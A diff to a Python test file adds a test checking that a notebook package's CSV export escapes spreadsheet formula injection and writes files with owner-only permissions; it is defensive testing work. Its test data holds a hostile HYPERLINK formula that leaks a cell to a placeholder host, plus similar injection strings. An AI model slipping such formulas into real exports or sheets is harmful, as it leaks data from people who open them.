@@ -8,9 +8,12 @@ sandbox, so the whole file runs in seconds.
 from __future__ import annotations
 
 import asyncio
+import csv
 import re
 import socket
+import stat
 import time
+from datetime import datetime
 from pathlib import Path
 from typing import Any
 
@@ -21,7 +24,7 @@ from fixtures.mockapi import FakeApi
 import pgcloud_nb
 from pgcloud_nb.ratelimit import Budget
 from pgcloud_nb.widgets import FleetTable
-from pgcloud_nb.widgets.fleetview import COLUMNS, fleet_html, id_chars
+from pgcloud_nb.widgets.fleetview import COLUMNS, fleet_html, id_chars, write_export
 
 pytestmark = pytest.mark.timeout(120)
 
@@ -182,6 +185,36 @@ def test_export_writes_the_view_where_asked_without_secrets(tmp_path: Path) -> N
             assert secret.encode() not in written.read_bytes(), fmt
             assert b"leaky" in written.read_bytes() and b"postgres://app:" in written.read_bytes()
         assert not table.errors.outputs
+
+
+def test_a_csv_export_runs_no_formula_and_is_the_users_only(tmp_path: Path) -> None:
+    """Names and tags are user input: a spreadsheet must show them, not run them."""
+    evil = '=HYPERLINK("http://x/?"&A1)'
+    frame = pd.DataFrame({
+        "name": ["+cmd", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b", None],
+        "tag.team": pd.Categorical([evil, "ok", None, "ok", "ok", "ok", "ok", "ok"]),
+        "tags": [[{"key": "k", "value": evil}], [], [], [], [], [], [], []],
+        "vcpus": [-2, 2, 2, 2, 2, 2, 2, 2],  # a number is no formula: kept as it is
+    })  # fmt: skip
+    folder = tmp_path / "new" / "exports"
+    path = write_export(frame, folder, "csv", now=datetime(2026, 1, 2, 3, 4, 5))
+    with path.open(newline="") as f:  # as a spreadsheet reads it: a row per row, \r included
+        header, *rows = csv.reader(f)
+    back = pd.DataFrame(rows, columns=header)
+    assert back["name"].tolist() == [
+        "'+cmd", "'-1+1", "'@SUM(A1)", "'\t=1", "'\r=1", "plain", "a=b", ""
+    ]  # fmt: skip
+    assert back["tag.team"].tolist()[:3] == ["'" + evil, "ok", ""]
+    assert back["tags"][0].startswith("[")  # JSON: the formula sits inside, not first
+    assert back["vcpus"].tolist()[0] == "-2"
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # made by the export
+    parquet = write_export(frame, folder, "parquet", now=datetime(2026, 1, 2, 3, 4, 5))
+    assert pd.read_parquet(parquet)["name"][0] == "+cmd"  # data, not a sheet: kept as it is
+    assert stat.S_IMODE(parquet.stat().st_mode) == 0o600
+    tmp_path.chmod(0o755)
+    write_export(frame, tmp_path, "csv", now=datetime(2026, 1, 2, 3, 4, 5))
+    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o755  # a folder it did not make: as it was
 
 
 def test_an_export_to_a_place_it_cannot_write_says_so(tmp_path: Path) -> None:
